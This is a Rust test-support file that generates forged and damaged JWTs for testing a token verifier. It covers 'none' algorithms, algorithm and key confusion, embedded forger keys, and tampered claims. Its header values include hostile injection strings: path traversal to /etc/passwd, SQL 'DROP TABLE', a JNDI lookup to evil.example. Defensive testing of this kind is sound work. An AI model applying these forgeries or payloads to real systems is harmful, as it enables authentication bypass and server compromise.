//! Forged and damaged tokens, each with a word about what is wrong with it.

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey, crypto};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::common::people::{claims, token_header};

/// What is wrong with a token, and the token.
pub type Forgery = (String, String);

/// Base64url without padding, as JWTs have it (RFC 7515 section 2).
pub fn base64url(bytes: impl AsRef<[u8]>) -> String {
    BASE64_URL_SAFE_NO_PAD.encode(bytes)
}

/// The texts of header and payload, signed.
pub fn sign(header: &str, payload: impl AsRef<[u8]>, key: &EncodingKey, algorithm: Algorithm) -> String {
    let message = format!("{}.{}", base64url(header), base64url(payload));
    let signature = crypto::sign(message.as_bytes(), key, algorithm).expect("a signature");
    format!("{message}.{signature}")
}

fn with(mut value: Value, name: &str, member: Value) -> Value {
    value[name] = member;
    value
}

fn without(mut value: Value, name: &str) -> Value {
    value.as_object_mut().expect("an object").remove(name);
    value
}

/// What anybody can make of a good token without the key: other headers and damaged bytes.
pub fn without_the_key(good: &str) -> Vec<Forgery> {
    let (header, payload) = (token_header(good), good.split('.').nth(1).expect("a payload"));
    let signature = good.rsplit('.').next().expect("a signature");
    let mut all = Vec::new();
    let mut add = |what: String, header: &str, signature: &str| {
        all.push((what, format!("{}.{payload}.{signature}", base64url(header))));
    };
    for none in ["none", "None", "NONE", "nOnE", "none ", " none", ""] {
        for (with, signature) in [("no signature", ""), ("a signature", signature), ("nonsense", "AAAA")] {
            add(
                format!("alg {none:?} with {with}"),
                &self::with(header.clone(), "alg", none.into()).to_string(),
                signature,
            );
        }
    }
    for other in ["HS256", "HS384", "HS512", "RS256", "PS256", "ES256", "ES384", "EdDSA", "Ed25519", "eddsa", "A128KW"]
    {
        if header["alg"] != other {
            add(format!("alg {other}"), &with(header.clone(), "alg", other.into()).to_string(), signature);
        }
    }
    for odd in [Value::Null, json!(["none"]), json!(0), json!({"none": true})] {
        add(format!("alg {odd}"), &with(header.clone(), "alg", odd.clone()).to_string(), signature);
        add(format!("kid {odd}"), &with(header.clone(), "kid", odd.clone()).to_string(), signature);
        add(format!("typ {odd}"), &with(header.clone(), "typ", odd).to_string(), signature);
    }
    for missing in ["alg", "kid", "typ"] {
        add(format!("no {missing}"), &without(header.clone(), missing).to_string(), signature);
    }
    let long = "k".repeat(3000);
    let tricks = [
        "",
        " ",
        ".",
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "http://evil.example/key",
        "' OR 1=1 --",
        "\"; DROP TABLE signing_keys; --",
        "\0",
        "\n",
        "${jndi:ldap://evil.example}",
        "ключ",
        "hs256-AAAAAAAAAAAAAAAA",
        long.as_str(),
    ];
    for kid in tricks {
        add(format!("kid {:.40?}", kid), &with(header.clone(), "kid", kid.into()).to_string(), signature);
    }
    for (what, text) in [
        ("a header that is no JSON", "nonsense"),
        ("a header that is a list", "[]"),
        ("an empty header", "{}"),
        ("a header of null", "null"),
        ("two algs", r#"{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":"x"}"#),
        ("a deep header", &format!("{{\"alg\":{}1{}}}", "[".repeat(500), "]".repeat(500))),
    ] {
        add(what.into(), text, signature);
    }
    all.extend(damaged(good));
    all
}

/// The bytes of a good token, bent.
fn damaged(good: &str) -> Vec<Forgery> {
    let [header, payload, signature] = good.split('.').collect::<Vec<_>>().try_into().expect("three parts");
    let decode = |part: &str| BASE64_URL_SAFE_NO_PAD.decode(part).expect("base64url");
    let raw = decode(signature);
    let flipped = |at: usize| {
        let mut bytes = raw.clone();
        bytes[at] ^= 1;
        base64url(bytes)
    };
    let standard = BASE64_STANDARD_NO_PAD.encode(decode(payload));
    let tampered = with(claims(good), "sub", Uuid::new_v4().to_string().into());
    let mut all = vec![
        ("empty", String::new()),
        ("one part", header.into()),
        ("two parts", format!("{header}.{payload}")),
        ("no signature", format!("{header}.{payload}.")),
        ("four parts", format!("{good}.{signature}")),
        ("five parts, as encrypted tokens have", format!("{header}.{payload}.{signature}.{signature}.{signature}")),
        ("only dots", "....".into()),
        ("no header", format!(".{payload}.{signature}")),
        ("no payload", format!("{header}..{signature}")),
        ("parts in another order", format!("{payload}.{header}.{signature}")),
        ("padding", format!("{good}==")),
        ("half a signature", format!("{header}.{payload}.{}", base64url(&raw[..raw.len() / 2]))),
        ("a longer signature", format!("{header}.{payload}.{}", base64url([&raw[..], &[0]].concat()))),
        ("a signature of zeros", format!("{header}.{payload}.{}", base64url(vec![0; raw.len()]))),
        ("the first bit of the signature", format!("{header}.{payload}.{}", flipped(0))),
        ("the last bit of the signature", format!("{header}.{payload}.{}", flipped(raw.len() - 1))),
        ("another payload", format!("{header}.{}.{signature}", base64url(tampered.to_string()))),
        ("a payload that is no base64", format!("{header}.{payload}!.{signature}")),
        ("another alphabet", format!("{header}.{standard}=.{signature}")),
        ("a payload that is no text", format!("{header}.{}.{signature}", base64url([0xff, 0xfe, 0x00]))),
        ("one character less", good[..good.len() - 1].into()),
        ("one character more", format!("{good}A")),
        ("a comma", format!("{good},{good}")),
        ("quoted", format!("\"{good}\"")),
        ("base64 of all", BASE64_STANDARD.encode(good)),
        ("in capitals", good.to_uppercase()),
        ("JSON serialization", json!({"payload": payload, "protected": header, "signature": signature}).to_string()),
        ("another kind of token", format!("v4.public.{payload}")),
        ("a megabyte short of one", "A".repeat(40_000)),
        ("many dots", ".".repeat(4_000)),
        ("a huge payload", format!("{header}.{}.{signature}", base64url(vec![b' '; 20_000]))),
    ];
    // Most signatures leave bits of their last character over: another one would be a second name of the same token.
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = alphabet.find(&good[good.len() - 1..]).expect("base64url") ^ 1;
    all.push(("another last bit", format!("{}{}", &good[..good.len() - 1], &alphabet[last..=last])));
    all.into_iter().map(|(what, token)| (what.to_owned(), token)).collect()
}

/// A key of the forger's own, shown in the header in every way that RFC 7515 knows.
pub fn with_an_embedded_key(good: &str) -> Vec<Forgery> {
    use portcullis::token::keys::{Algorithm as Ours, SigningKey, generate_pem};
    let pem = generate_pem(Ours::EdDsa).expect("a key");
    let theirs = SigningKey::from_pem(Ours::EdDsa, &pem).expect("a key");
    let jwk = theirs.public().expect("a public half").jwk;
    let key = EncodingKey::from_ed_pem(pem.as_bytes()).expect("a key");
    let payload = claims(good).to_string();
    let ours = with(token_header(good), "alg", "EdDSA".into());
    let mut all = Vec::new();
    for (name, member) in [
        ("nothing", Value::Null),
        ("jwk", jwk.clone()),
        ("jku", json!("http://127.0.0.1:9/jwks.json")),
        ("x5u", json!("http://127.0.0.1:9/key.pem")),
        ("x5c", json!(["MIIB"])),
        ("jwks", json!({"keys": [jwk]})),
    ] {
        for kid in [ours["kid"].clone(), theirs.kid().into(), Value::Null] {
            let header = with(with(ours.clone(), name, member.clone()), "kid", kid.clone());
            all.push((
                format!("{name} of a forger's key, kid {kid}"),
                sign(&header.to_string(), &payload, &key, Algorithm::EdDSA),
            ));
        }
    }
    all
}

/// The public key taken for a shared secret, in every spelling a verifier might hold it in (RFC 8725 section 2.1).
pub fn with_the_public_key_as_secret(good: &str, jwk: &Value) -> Vec<Forgery> {
    let member = |name: &str| jwk[name].as_str().unwrap_or_default().to_owned();
    let mut secrets: Vec<(&str, Vec<u8>)> = vec![
        ("the JWK", jwk.to_string().into_bytes()),
        ("the set", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("the id", member("kid").into_bytes()),
    ];
    for name in ["x", "y", "n", "e"] {
        secrets.push((name, member(name).into_bytes()));
        secrets.push((name, BASE64_URL_SAFE_NO_PAD.decode(member(name)).unwrap_or_default()));
    }
    let der = subject_public_key_info(jwk);
    let pem = pem_of(&der);
    secrets.push(("DER", der));
    secrets.push(("PEM without its last line end", pem.trim_end().as_bytes().to_vec()));
    secrets.push(("PEM", pem.into_bytes()));
    let mut all = Vec::new();
    for (what, secret) in secrets.into_iter().filter(|(_, secret)| !secret.is_empty()) {
        for (name, algorithm) in [("HS256", Algorithm::HS256), ("HS384", Algorithm::HS384), ("HS512", Algorithm::HS512)]
        {
            let header = with(token_header(good), "alg", name.into()).to_string();
            let token = sign(&header, claims(good).to_string(), &EncodingKey::from_secret(&secret), algorithm);
            all.push((format!("{name} with {what} as the secret"), token));
        }
    }
    all
}

/// SubjectPublicKeyInfo (RFC 5280 section 4.1) of an Ed25519 (RFC 8410) or RSA (RFC 8017) key.
fn subject_public_key_info(jwk: &Value) -> Vec<u8> {
    let bytes = |name: &str| BASE64_URL_SAFE_NO_PAD.decode(jwk[name].as_str().unwrap_or_default()).expect("base64url");
    let bits = |content: &[u8]| der(0x03, &[&[0][..], content].concat());
    match jwk["kty"].as_str() {
        Some("OKP") => der(0x30, &[der(0x30, &[0x06, 0x03, 0x2b, 0x65, 0x70]), bits(&bytes("x"))].concat()),
        Some("RSA") => {
            // Positive: a leading zero where the first bit is set.
            let number = |value: Vec<u8>| der(0x02, &[if value[0] > 0x7f { vec![0] } else { vec![] }, value].concat());
            let key = der(0x30, &[number(bytes("n")), number(bytes("e"))].concat());
            let rsa = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];
            der(0x30, &[der(0x30, &rsa), bits(&key)].concat())
        }
        other => panic!("no public key of a kind known here: {other:?}"),
    }
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let head = match length {
        0..=127 => vec![tag, length as u8],
        128..=255 => vec![tag, 0x81, length as u8],
        _ => vec![tag, 0x82, (length >> 8) as u8, length as u8],
    };
    [head, content.to_vec()].concat()
}

fn pem_of(der: &[u8]) -> String {
    let body = BASE64_STANDARD.encode(der);
    let lines: Vec<&str> = (0..body.len()).step_by(64).map(|at| &body[at..body.len().min(at + 64)]).collect();
    format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"))
}

/// Signed by the node's own key, and still no access token for here: another type, audience, time or shape.
pub fn signed_by_ourselves(good: &str, key: &EncodingKey, algorithm: Algorithm) -> Vec<Forgery> {
    let (header, body) = (token_header(good), claims(good));
    let now = body["iat"].as_i64().expect("iat");
    let mut all: Vec<Forgery> = Vec::new();
    let mut add = |what: &str, header: &Value, body: &str| {
        all.push((what.to_owned(), sign(&header.to_string(), body, key, algorithm)));
    };
    let text = body.to_string();
    for typ in [
        "JWT",
        "jwt",
        "id+jwt",
        "logout+jwt",
        "rt+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "at-jwt",
        "at+jwt ",
        "",
        "text/at+jwt",
    ] {
        add(&format!("typ {typ:?}"), &with(header.clone(), "typ", typ.into()), &text);
    }
    for (what, member, value) in [
        ("crit with what is known", "crit", json!(["exp"])),
        ("crit with what is unknown", "crit", json!(["http://evil.example/ext"])),
        ("crit that is empty", "crit", json!([])),
        ("a payload that is not encoded", "crit", json!(["b64"])),
    ] {
        add(what, &with(with(header.clone(), "b64", false.into()), member, value), &text);
    }
    for (name, value) in [
        ("iss", json!("https://evil.example")),
        ("iss", json!("portcullis ")),
        ("iss", json!("PORTCULLIS")),
        ("iss", Value::Null),
        ("iss", json!(["portcullis"])),
        ("aud", json!("another")),
        ("aud", json!([])),
        ("aud", json!(["another", "portcullis-too"])),
        ("aud", Value::Null),
        ("sub", json!("not-a-uuid")),
        ("sub", json!(Uuid::new_v4())),
        ("sub", Value::Null),
        ("sid", json!(Uuid::new_v4())),
        ("sid", json!("")),
        ("jti", json!(7)),
        ("nbf", json!(now + 3600)),
        ("nbf", json!(i64::MAX)),
        ("nbf", json!(u64::MAX)),
        ("exp", json!("2999-01-01")),
        ("exp", json!((now + 900).to_string())),
        ("exp", json!(u64::MAX)),
        ("exp", json!(1e300)),
        ("exp", Value::Null),
        ("exp", json!(true)),
    ] {
        add(&format!("{name} {value}"), &header, &with(body.clone(), name, value).to_string());
    }
    for missing in ["iss", "aud", "sub", "sid", "jti", "iat", "nbf", "exp"] {
        add(&format!("no {missing}"), &header, &without(body.clone(), missing).to_string());
    }
    let twice = format!("{},\"sub\":\"{}\"}}", text.trim_end_matches('}'), Uuid::new_v4());
    for (what, payload) in [
        ("two subs", twice.as_str()),
        ("a payload that is a list", "[]"),
        ("a payload that is a number", "1"),
        ("a payload that is no JSON", "nonsense"),
        ("an empty payload", ""),
    ] {
        add(what, &header, payload);
    }
    let huge = with(body.clone(), "padding", "x".repeat(6_000).into()).to_string();
    add("a huge payload", &header, &huge);
    let jwt = with(header.clone(), "typ", "JWT".into());
    for (what, of) in kinds_of_other_issuers(&body) {
        add(what, &jwt, &of.to_string());
    }
    all
}

/// Tokens that are good somewhere, and are no access tokens: of OpenID providers and of Supabase.
fn kinds_of_other_issuers(body: &Value) -> Vec<(&'static str, Value)> {
    let events = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    vec![
        ("an ID token", with(with(body.clone(), "nonce", "n".into()), "at_hash", "h".into())),
        ("a logout token", without(with(body.clone(), "events", events), "nbf")),
        ("a refresh token", with(body.clone(), "token_use", "refresh".into())),
        (
            "an anon key",
            json!({"iss": "supabase", "ref": "abcdefgh", "role": "anon", "iat": body["iat"], "exp": 2_000_000_000}),
        ),
        (
            "a service_role key",
            json!({"iss": "supabase", "ref": "abcdefgh", "role": "service_role", "iat": body["iat"], "exp": 2_000_000_000}),
        ),
        (
            "an access token of Supabase",
            with(
                with(with(body.clone(), "role", "authenticated".into()), "aud", "authenticated".into()),
                "session_id",
                body["sid"].clone(),
            ),
        ),
    ]
}
